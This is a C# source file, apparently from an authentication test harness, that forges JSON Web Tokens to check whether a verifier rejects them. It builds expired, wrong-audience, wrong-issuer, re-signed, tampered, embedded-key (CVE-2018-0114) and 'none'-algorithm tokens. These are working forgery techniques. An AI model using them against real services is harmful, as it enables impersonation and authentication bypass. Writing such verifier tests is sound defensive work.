using System.Buffers.Text;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using Seatrial.Project.Boundaries;

namespace Seatrial.Flows.Authentication;

/// <summary>Forges tokens as an attacker without the issuer's key can: what is signed anew is signed with a key of our own.</summary>
internal static class TokenForgery
{
    private const string Elsewhere = "https://somebody-else.example";

    // An attacker makes a key once. Making an RSA key takes a tenth of a second.
    private static readonly Lazy<RSA> RsaKey = new(static () => RSA.Create(2048));
    private static readonly Lazy<ECDsa> CurveKey = new(static () => ECDsa.Create(ECCurve.NamedCurves.nistP256));

    /// <summary>The forged token.</summary>
    /// <param name="attack">What is to be wrong with it.</param>
    /// <param name="genuine">A token the issuer gave; left as it is.</param>
    /// <param name="now">The time.</param>
    /// <param name="spelling">How <c>none</c> is spelled.</param>
    public static string Of(TokenAttack attack, JsonWebToken genuine, DateTimeOffset now, string spelling = "none")
    {
        JsonObject header = (JsonObject)genuine.Header.DeepClone();
        JsonObject claims = (JsonObject)genuine.Claims.DeepClone();
        switch (attack)
        {
            case TokenAttack.Expired:
                claims["iat"] = now.AddHours(-2).ToUnixTimeSeconds();
                claims["nbf"] = now.AddHours(-2).ToUnixTimeSeconds();
                claims["exp"] = now.AddHours(-1).ToUnixTimeSeconds();
                return Sign(header, claims);
            case TokenAttack.WrongAudience:
                claims["aud"] = Elsewhere;
                return Sign(header, claims);
            case TokenAttack.WrongIssuer:
                claims["iss"] = Elsewhere;
                return Sign(header, claims);
            case TokenAttack.WrongKey:
                return Sign(header, claims);
            case TokenAttack.EmbeddedKey:
                // CVE-2018-0114: who takes the key from the token takes the attacker's.
                header.Remove("kid");
                bool isRsa = (string?)header["alg"] is ['R' or 'P', 'S', ..];
                header["alg"] = isRsa ? (string?)header["alg"] : "ES256";
                header["jwk"] = isRsa ? RsaJwk() : CurveJwk();
                return Sign(header, claims);
            case TokenAttack.Tampered:
                // Another id leaves whoever checks no signature none the wiser.
                claims["jti"] = Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(16));
                return $"{genuine.WrittenHeader}.{JsonWebToken.Write(claims)}.{genuine.Signature}";
            case TokenAttack.NoneAlgorithm:
                header["alg"] = spelling;
                header.Remove("kid");
                return $"{JsonWebToken.Write(header)}.{JsonWebToken.Write(claims)}.";
            default:
                throw new ArgumentOutOfRangeException(nameof(attack), attack, "This is not forged.");
        }
    }

    private static JsonObject RsaJwk()
    {
        RSAParameters key = RsaKey.Value.ExportParameters(includePrivateParameters: false);
        return new() { ["kty"] = "RSA", ["n"] = Base64Url.EncodeToString(key.Modulus), ["e"] = Base64Url.EncodeToString(key.Exponent) };
    }

    private static JsonObject CurveJwk()
    {
        ECParameters key = CurveKey.Value.ExportParameters(includePrivateParameters: false);
        return new() { ["kty"] = "EC", ["crv"] = "P-256", ["x"] = Base64Url.EncodeToString(key.Q.X), ["y"] = Base64Url.EncodeToString(key.Q.Y) };
    }

    private static byte[] Mac(HashAlgorithmName hash, byte[] bytes)
    {
        using IncrementalHash mac = IncrementalHash.CreateHMAC(hash, RandomNumberGenerator.GetBytes(64));
        mac.AppendData(bytes);
        return mac.GetHashAndReset();
    }

    private static string Sign(JsonObject header, JsonObject claims)
    {
        string algorithm = (header["alg"] as JsonValue)?.TryGetValue(out string? written) == true ? written! : string.Empty;
        bool isKnown = algorithm is { Length: 5 } && algorithm[..2] is "RS" or "PS" or "ES" or "HS" && algorithm[2..] is "256" or "384" or "512";
        if (!isKnown)
        {
            header["alg"] = algorithm = "ES256";
        }

        string text = $"{JsonWebToken.Write(header)}.{JsonWebToken.Write(claims)}";
        byte[] bytes = Encoding.ASCII.GetBytes(text);
        HashAlgorithmName hash = new($"SHA{algorithm[2..]}");
        byte[] signature = algorithm[..2] switch
        {
            "RS" => RsaKey.Value.SignData(bytes, hash, RSASignaturePadding.Pkcs1),
            "PS" => RsaKey.Value.SignData(bytes, hash, RSASignaturePadding.Pss),
            "HS" => Mac(hash, bytes),
            _ => CurveKey.Value.SignData(bytes, hash),
        };
        return $"{text}.{Base64Url.EncodeToString(signature)}";
    }
}
